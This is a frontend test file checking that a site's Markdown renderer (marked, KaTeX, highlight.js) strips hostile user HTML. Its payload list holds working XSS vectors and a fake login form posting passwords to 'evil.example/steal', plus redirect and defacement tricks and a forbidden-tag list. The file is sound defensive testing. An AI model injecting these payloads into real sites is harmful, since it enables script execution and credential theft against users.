// @vitest-environment jsdom
/**
 * User Markdown through the real renderer (marked + KaTeX + highlight.js + the shared allow-list):
 * hostile payloads lose everything that could deface the site, fake a form or run script, while math,
 * highlighted code and ordinary Markdown still come out.
 */
import { beforeAll, describe, expect, it } from 'vitest';
import { highlight } from '../src/components/markdownCode';
import { mathExtension } from '../src/components/markdownMath';
import { addMath, renderMarkdown, setHighlighter } from '../src/components/markdownRender';

// As Markdown.tsx does once a source needs them.
beforeAll(() => {
  addMath(mathExtension);
  setHighlighter(highlight);
});

const FORBIDDEN_TAGS = [
  'style',
  'form',
  'input',
  'button',
  'textarea',
  'select',
  'option',
  'iframe',
  'frame',
  'object',
  'embed',
  'meta',
  'link',
  'base',
  'script',
  'svg',
  'math',
  'template',
  'noscript',
  'video',
  'audio',
  'source',
];

/** What an attacker tried (signatures, statements, announcements: all are user Markdown). */
const PAYLOADS = [
  '<style>header{display:none}</style>',
  'hi <style>.ant-layout-header{display:none !important}</style> there',
  '<form action="https://evil.example/steal" method="post"><input name="password" type="password"><button>Log in</button></form>',
  '<form><textarea name=x></textarea><select><option>1</option></select></form>',
  '<img src=x onerror="alert(1)">',
  '<img src="x" onload=alert(1) style="position:fixed;top:0;left:0;width:100vw;height:100vh">',
  '[click](javascript:alert(1))',
  '<a href="javascript:alert(1)">click</a>',
  '<a href="  JaVaScRiPt:alert(1)">click</a>',
  '<a href="java&#x09;script:alert(1)">click</a>',
  '<a href="vbscript:msgbox(1)">click</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
  '[x](data:text/html,<script>alert(1)</script>)',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '![x](data:text/html,hello)',
  '<iframe src="https://evil.example"></iframe>',
  '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<base href="https://evil.example/">',
  '<svg><script>alert(1)</script></svg>',
  '<svg onload=alert(1)><circle r=10 /></svg>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<script>alert(1)</script>',
  '<div onclick="alert(1)" onmouseover="alert(1)" style="position:fixed;inset:0">cover</div>',
  '<details open ontoggle=alert(1)><summary>s</summary></details>',
  '<div class="ant-modal-mask" id="root">mask</div>',
  '<span data-oj-fragment="0-0"></span><span data-oj-fragment="deadbeef-0"></span>',
  '<p style="color:red">red</p>',
  '$x$ <style>header{display:none}</style> `<form>`',
];

function parse(html: string): Document {
  return new DOMParser().parseFromString(`<body>${html}</body>`, 'text/html');
}

/** Everything the allow-list promises, checked on the rendered DOM. */
function assertSafe(html: string) {
  const doc = parse(html);
  for (const tag of FORBIDDEN_TAGS) expect(doc.body.querySelector(tag), `<${tag}> in ${html}`).toBeNull();
  for (const el of doc.body.querySelectorAll('*')) {
    const inMath = !!el.closest('.katex, .katex-display');
    const inCode = !!el.closest('pre > code.hljs');
    for (const attr of el.attributes) {
      expect(attr.name.startsWith('on'), `${attr.name} in ${html}`).toBe(false);
      if (attr.name === 'style') expect(inMath, `style outside math in ${html}`).toBe(true);
      if (attr.name === 'class') expect(inMath || inCode || el.matches('pre > code.hljs'), `class outside math/code in ${html}`).toBe(true);
      expect(attr.name, html).not.toBe('id');
      if (attr.name === 'href' || attr.name === 'src') {
        // biome-ignore lint/suspicious/noControlCharactersInRegex: browsers drop control characters inside a URL scheme.
        const v = attr.value.replace(/[\s\u0000-\u001f]/g, '').toLowerCase();
        expect(v.startsWith('javascript:') || v.startsWith('vbscript:'), `${attr.name}=${attr.value}`).toBe(false);
        if (v.startsWith('data:')) expect(el.tagName === 'IMG' && /^data:image\/(png|jpeg|gif|webp)[;,]/.test(v), `${attr.name}=${attr.value}`).toBe(true);
      }
    }
  }
}

describe('user Markdown allow-list', () => {
  it.each(PAYLOADS)('neutralises %s', (payload) => {
    const html = renderMarkdown(payload);
    assertSafe(html);
    expect(html).not.toMatch(/<style|<form|<input|onerror|javascript:/i);
  });

  it('keeps the visible text of removed markup but not style rules', () => {
    const html = renderMarkdown('hi <style>header{display:none}</style> there');
    expect(parse(html).body.textContent).toContain('hi');
    expect(html).not.toContain('display:none');
  });

  it('renders math with KaTeX (styled spans) next to sanitised user HTML', () => {
    const html = renderMarkdown('Given $a + b$ and\n\n$$\\sum_{i=1}^n i$$\n\n<b onclick="x()">bold</b>');
    const doc = parse(html);
    expect(doc.querySelectorAll('.katex').length).toBe(2);
    expect(doc.querySelector('.katex-display')).not.toBeNull();
    expect(doc.querySelector('.katex [style]')).not.toBeNull();
    expect(doc.querySelector('b')!.getAttribute('onclick')).toBeNull();
    assertSafe(html);
  });

  it('highlights fenced code and escapes what is inside it', () => {
    const html = renderMarkdown('```cpp\nint main() { return 0; } // <script>alert(1)</script>\n```');
    const doc = parse(html);
    expect(doc.querySelector('pre > code.hljs.language-cpp')).not.toBeNull();
    expect(doc.querySelector('.hljs-keyword')?.textContent).toBe('return');
    expect(doc.querySelector('script')).toBeNull();
    expect(doc.body.textContent).toContain('<script>alert(1)</script>');
    const plain = parse(renderMarkdown('```nolang\n<b>x</b>\n```\n\n    <i>indented</i>'));
    expect(plain.querySelectorAll('pre > code.hljs').length).toBe(2);
    expect(plain.querySelector('b, i')).toBeNull();
    expect(plain.body.textContent).toContain('<b>x</b>');
  });

  it('keeps ordinary Markdown: emphasis, tables, lists, images, raster data images', () => {
    const png = 'data:image/png;base64,iVBORw0KGgo=';
    const html = renderMarkdown(
      `**bold** _it_\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n- [x] done\n- [ ] todo\n\n![pic](/api/public/files/x.png) <img src="${png}" alt="inline">`,
    );
    const doc = parse(html);
    expect(doc.querySelector('strong')?.textContent).toBe('bold');
    expect(doc.querySelectorAll('td').length).toBe(2);
    expect(doc.body.textContent).toContain('☑ done');
    expect(doc.querySelector('img[src="/api/public/files/x.png"]')).not.toBeNull();
    expect(doc.querySelector(`img[src="${png}"]`)).not.toBeNull();
  });

  it('opens links in a new tab; links to other sites get noopener noreferrer nofollow', () => {
    const doc = parse(renderMarkdown('[out](https://example.org/x) [in](/problem/P1000) <a href="mailto:a@b.c">mail</a>'));
    const out = doc.querySelector('a[href="https://example.org/x"]')!;
    expect(out.getAttribute('rel')).toBe('noopener noreferrer nofollow');
    expect(out.getAttribute('target')).toBe('_blank');
    expect(doc.querySelector('a[href="/problem/P1000"]')!.getAttribute('rel')).toBe('noopener');
  });
});
